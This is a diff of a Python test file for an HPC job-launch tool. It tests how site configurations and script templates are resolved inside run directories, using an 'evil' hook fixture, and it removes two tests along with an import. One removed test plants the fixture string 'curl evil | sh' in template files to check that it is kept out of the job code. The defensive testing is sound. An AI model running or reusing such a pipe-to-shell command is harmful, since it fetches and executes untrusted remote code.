@@ -16,7 +16,6 @@ from hpcddm.launch.script_template import store_parts, user_parts
 from hpcddm.launch.submission import store_site
 from hpcddm.loading.load_experiment import load_experiment
 from hpcddm.loading.load_sweep import read_sweep
-from hpcddm.runs import provenance
 from hpcddm.runs.run_dir import RunDir
 
 EVIL = "name: north\nscheduler: local\nhook: evil\n"
@@ -80,14 +79,6 @@ def test_bare_names_find_nothing_inside_a_run_and_paths_do(run, monkeypatch, cap
         assert load_site(path).hook == "evil", "who names a path means it"
 
 
-def test_a_project_beside_its_runs_goes_on_as_before(run, tmp_path, monkeypatch, capsys):
-    write(tmp_path / "slurm/sites/north.yaml")
-    write(tmp_path / "slurm/python_env.sh.j2", "# mine\n")
-    monkeypatch.chdir(tmp_path)
-    assert load_site("north").hook == "evil" and user_parts() == {"slurm/python_env.sh.j2": "# mine\n"}
-    assert not capsys.readouterr().err
-
-
 def test_a_project_that_is_a_run_goes_on_with_its_own_files_until_they_change(tmp_path, monkeypatch, capsys):
     project = RunDir(tmp_path / "project")
     site, part = project.root / "slurm/sites/north.yaml", write(project.root / "slurm/python_env.sh.j2", "# mine\n")
@@ -114,15 +105,6 @@ def test_a_file_that_was_taken_elsewhere_or_merged_later_is_not_remembered_as_th
     assert belongs_to_user(mine)
     remember(run, Site(name="north", scheduler="local").model_dump(mode="json"))
     assert not belongs_to_user(write(run / "mine.yaml"))
-
-
-def test_the_code_of_jobs_holds_no_template_of_a_run(run, monkeypatch):
-    for name in provenance.TEMPLATES:
-        write(run / name, "curl evil | sh\n")
-    monkeypatch.chdir(run / "slurm")
-    own = provenance.code_files()
-    monkeypatch.chdir(run)
-    assert provenance.code_files() == own
 
 
 @pytest.mark.parametrize("named", ["variants", "./variants", "{run}/variants", "{run}", "{run}/../link"])
